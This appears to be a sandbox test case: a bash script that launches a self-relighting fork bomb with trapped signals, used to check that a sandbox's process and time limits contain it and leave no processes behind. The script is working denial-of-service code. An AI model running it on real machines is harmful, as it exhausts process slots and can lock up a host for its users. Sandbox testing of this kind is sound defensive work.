#!/bin/bash
# forkbomb.sh -- ATTACK: the classic shell fork bomb  :(){ :|:& };:
# Usage: /bin/bash forkbomb.sh MARKER
# Every subshell keeps "MARKER" in its cmdline (it is this script's argument),
# so the host can check that nothing survives the run.  bash (unlike dash)
# retries a failed fork instead of exiting, so the bomb never ends by itself;
# the sandbox must stop it (pids limit + time limits) and leave nothing
# behind.  Success of the attack would be a host that cannot fork any more,
# a run that never ends, or leftover processes.
exec 2>/dev/null
trap '' TERM HUP INT
bomb() { bomb | bomb & }
# An igniter lights the bomb and relights it forever.
( while :; do bomb; sleep 0.1; done ) &
# The parent forks nothing more and waits: bash exits on a fork that fails with anything but
# EAGAIN, and under gVisor a fork can fail with EINTR (Linux restarts it) — a subshell dying of
# that is one branch less, the parent dying of it would end the run. Should the igniter die of
# it too, the parent spins until the CPU limit.
while :; do wait; done
